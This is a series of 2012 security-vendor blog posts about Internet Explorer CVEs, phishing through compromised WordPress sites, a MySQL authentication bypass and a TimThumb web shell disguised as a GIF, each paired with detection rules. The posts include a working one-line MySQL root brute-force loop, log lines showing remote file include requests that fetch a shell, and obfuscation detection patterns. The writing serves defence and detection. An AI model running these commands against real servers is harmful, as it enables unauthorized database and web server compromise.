Thursday, June 21, 2012

Microsoft In-The-Wild Coverage - CVE-2012-1889 and CVE-2012-1875

As a security professional, there's very little I hate more than Microsoft vulnerabilities announced after patches are sent out each Microsoft Tuesday. Not only do theymean that folks like me have to scramble to address them - since invariably bugs released outside the standard patch cycle come with live exploits - they typically grant the largest possible exploitation window to an attacker. If your job is to keep systems secure, a potentially month-long window between exploit code release and patch release is a nightmare.

This month brought that exact scenario, with the public release of CVE-2012-1889 mere hours after the release of the month'spatches. The vulnerability has been actively exploited in the wild for some time before this public release; Google has been issuing warnings to potential victims in Gmail at least since June 5. Initial exploitation appears to have been very narrowly targeted; with the June 15 release of a Metasploit module, however, as well as other exploits appearing across the web, users should expect a much more broad target base for attackers.

The good news for those of us charged with keeping networks secure is that there's been a very rapid response to this particular attack. The VRT released SIDs 23142 - 23146 the day after the public release of the vulnerability; we have been continuously monitoring newly released attacks, and have found that those rules cover everything that has been released to date. As those signatures are extremely generic in relation to the vulnerability, we expect them to continue working for any new exploits that are created, public or private.

In addition, Microsoft released a "Fix It" tool the day of the vulnerability announcement. While this tool does not patch the underlying bug - they're actively working on creating that patch - it does block the attack from reaching the vulnerable section of their codebase, which effectively keeps users safe while a full patch is created. I would strongly encourage you to use this tool immediately.

The other bug fromthis month's patch cycle that's actively being exploited in the wild is CVE-2012-1875, a complex DOM manipulation bug in Internet Explorer. A functional exploit with shellcode appeared on PasteBin on June 8 - four days before the release of the patch by Microsoft - and Metasploit also released code on June 13, which has been under active development to work on more platforms ever since. While the initial exploitation appeared, once more, to be very narrowly targeted, the broad availability of functional exploit code today means that the likelihood of this attackappearing in exploit kits or other commoditized attack platforms is exceptionally high.

Sourcefire customers have been protected by SID 23125 since this month's Microsoft Tuesday release; again, this coverage has been verified across all known exploits in the wild, and will be continually reviewed as new tools are released.

Tuesday, June 19, 2012

Compromised WordPress Blogs: A Phisher's Paradise

One of the ongoing trends in the phishing attacks the VRT monitors is the use of poorly secured WordPress blogs as staging points for exploit kits. Every time I hover over a link in the latest "UPS Tracking" or "Airline Ticket Confirmation" email, I'm looking for "/wp-content/", "/wp-includes/", or some other indicator of a poor, unsuspecting person who thinks they're telling the world everything they know about growing tulips, when in fact they're unwittingly serving as an accomplice to cybercrime. More and more often, those indicators crop up, with blatantly compromised web sites serving as the first point of entry into someone's Blackhole, Phoenix, or other exploit kit.

How often, you ask, are compromised WordPress installs being abused in this manner? I've been collecting phishes and other malicious emails for the last month or so, and in that time, over 5 percent of these messages have contained links with a WordPress-related URL in them. Given the fractured nature of attacks on the Internet - your average cybercriminal is generally looking to avoid detection, and as such is always looking for the latest obfuscation technique - any time you get a common thread appearing in attacks at thatsort of a rate, it's actually significant from a detection perspective.

Of course, you can't just generate an IDS event every time someone requests a WordPress-related URL, even out of an email link - you'd end up melting your sensor, or the network itself if you were dropping these requests. What you can do, however, is look for some common techniques used by attackers against specific WordPress vulnerabilities, and use your knowledge of what should be in a given directory on a WordPress install to hook some really nasty phish on the proverbial line.

SID 21941, which was released on May 2, does exactly this. The rule looks for URLs specific to the Fgallery plugin - a relatively popular module for posting images on one's blog. Since the "/fgallery/" directory used by the plugin should only ever contain image files, the rule was written to look for file names ending in ".php" within that directory - a clear sign that someone has abused a remote file include vulnerability to upload a malicious page. The rule, which has been enabled in the balanced policy the entire time, has yielded no false positive reports to the VRT, and does an excellent job of catching compromised sites being used for nefarious purposes.

When a creative new phish hit inboxes yesterday - claiming to be a Verizon Wireless monthly statement:

I noticed that the URL went to < redacted > /wp-content/uploads/fgallery/vz.html. Running that URL through our sandbox, a clear-cut case of Blackhole emerged immediately; had I clicked the link from an actual workstation, I'd have been owned in no time flat.

Of course, while that URL was close to the pattern from SID 21941, the use of an HTML file instead of a PHP file dictated a new rule; that's being released in today's SEU as SID 23171.

The thing that terrifies me as someone attempting tosecure the Internet, however, is the sheer volume of WordPress plugins vulnerable to remote file upload attacks just like this. Running a Google query for "wordpress file upload vulnerability" yields 459,000 results, and the first several pages of results returned are littered with live exploits that are ready to use on the Internet at large. If you're running a WordPress installation somewhere - seriously, make sure you're patched right now, because if you aren't, the chances that you'll stay safe from ownage are about as high as a snowball's surviving Washington, DC heat on an August day.

The VRT is constantly monitoring networks around the world, looking for live exploits like these, and will be adding rules for other commonly abused WordPress modules as they crop up. If you have suggestions for things you see being exploited regularly, please send them to research < at > sourcefire < dot > com, so we can make sure to add coverage promptly. In the meantime - be careful where you click, especially where WordPress is involved.

Tuesday, June 12, 2012

MySQL Authentication Brute Force AttackBefore you read this, go and make sure your MySQL servers are patched and up-to-date. This is serious, nasty 0-day, and while there is some mitigation in terms of impacted platforms, the newest MySQL bug is so trivial to exploit that it's worth a couple of minutes just to check that your box is secure before you do, well, anything else on the Internet today. We'll be here, we promise.

Assuming that you're current or on a safe platform, let's continue on with one of the more obscure authentication bugs the VRT has seen in some time.

According to a post on the oss-sec mailing list on Saturday, if you're using MySQL on a platform where memcmp(3) can return values outside of the standardrange of -128 to 127 (such as Ubuntu 64-bit), MySQL will sipmly authenticate you even if your password was invalid...approximately 1 in every 256 times you attempt to log in. Simply put, you can have a conversation with a MySQL server that goes something like this:

Attacker: "Knock knock, it's me, root!"
MySQL Server: "No it's not, your password's not right. Go away."
Attacker: "Knock knock, it's me, root!"
MySQL Server: "No it's not, your password's not right. Go away."

< ... above repeated some ~300 times... >

Attacker: "Knock knock, it's me, root!"
MySQL Server: "Come on in!"

Exploitation is, as HD Moore put it, "tragically comedic" - you can do it with a simple one-line shell script if you have any standard MySQL client installed:

for i in `seq 1 1000`; do mysql -u root --password=bad -h < remote host > 2>/dev/null ; done

Even the most ridiculously unskilled of scriptkiddies can copy and paste a script like that and get into your database server as root. It's a horrifying vulnerability, when you sit down and think about it.

The good news is that the vast majority of builds of MySQL out there are not impacted. Many flavors of Debian-based Linux, RedHat, Gentoo, etc. have been confirmed as not vulnerable; official builds from MySQL and MariaDB (which is implicated as well) are in good shape, too. Well-respected security researcher Joshua Drake (jduck) has even provided a simple application to check whether your systems are vulnerable. Official patches from MySQL are available as well, and many impacted operating systems are issuing official patches.

The VRT has you covered as well. SID 23115, released in today's SEU, provides detection for bursts of login attempts - 100 or more in 5 seconds, to differentiate between a brute-force attack and legitimate traffic. Users may wish to consider tuning the rule's detection_filter to be more stringent, based upon the traffic that they see on their particular network. For example, if you have a lowvolume of legitimate MySQL login attempts, you might consider:

detection_filter: track by_src, count 20, seconds 5;

Be sure not to make changes like that in drop mode without testing on your network first - nobody wants to be the security guy that broke the production network. You can, however, be the security guy that's got everything under control, if you make sure to take care of your boxes with the information from this post.

Monday, June 11, 2012

Web Shell Poses As A GIF

One of the most actively scanned-for vulnerabilities on the Internet these days is the TimThumb remote file include, an attack released in August of 2011 that targets the popular WordPress module. People scan for it so heavily because doing so is cheap and easy, from a bandwidth and processing perspective: you literally just make a request on a web server for a given file. If you find a vulnerable machine, it then makes a single request to the site of your choosing, and poof, you've got a web shell; if the remote system isn't vulnerable, you just get a 404.

While reviewing some logs recently (I recently started a Twitter feed for ridiculous things I find in my personal web server logs, and the logs of anyone who wants to send me data), I found what appears to be a relatively popular web shell that's being used for these vulnerable TimThumb installations. Hosted primarily on domains disguised to look like they're on the popular, a single one of the VRT's servers had well over two thousand attempts to drop this shell on it since the start of June 2012 alone.

The attacks are very easy to identify in Apache logs:

[01/Jun/2012:06:05:58 -0400] "GET /iplists/wp-content/themes/freshnews/tools/timthumb.php?src=< redacted>.it/sh.php HTTP/1.1" 404 364 "-" "Mozilla/5.0 (Windows; U; Windows NT 5.1; en-US; rv:1.9.2) Gecko/20100115 Firefox/3.6"

[11/Jun/2012:03:31:23 -0400] "GET //wp-content/plugins/akismet/timthumb.php?src=< redacted >.cl/sh.php HTTP/1.1" 404 358 "-" "Mozilla/5.0 (Windows; U; Windows NT 5.1; it; rv:1.8.1b2) Gecko/20060710 Firefox/2.0b2"

The actual shell itself that gets dropped is simultaneously sneaky and blatant. The file that comes down actually begins with a valid GIF header - so valid, in fact, that file(1) will return the following:

sh.php: GIF image data, version 89a, 16129 x 16191

From there, though, it launches into some very obviously malicious PHP code, which includes several chunks ofheavily obfuscated code:

This leads to a pair of useful Snort rules. The first, SID 23113, is based around the obvious obfuscation done with "eval(gzinflate(base64_decode( < blob of data >". No sane web developer would ever go to the trouble of that many layers of obfuscation, but it's an easy way to make life difficult on WAF devicesand other security technologies attempting to evaluate your code.

The second - SID 23114 - is for malformed files. If you see a GIF header, and then an opening PHP tag within the next 100 bytes, well, somebody's up to no good. Yes, technically you might have a PHP tag in a comment within the GIF strucutre - but I'll take the 999 attacks that will likely result out of each 1,000 times this rule fires and not worry too much about the potential for an obscure edge case like that.As we do with all sorts of live attacks, we'll be watching for updates to this particular shell and adding/updating rules asappropriate. In the meantime, if you've got anything funny you're seeing that you think warrants a VRT rule - send it in, and we'll be happy to analyze it for you.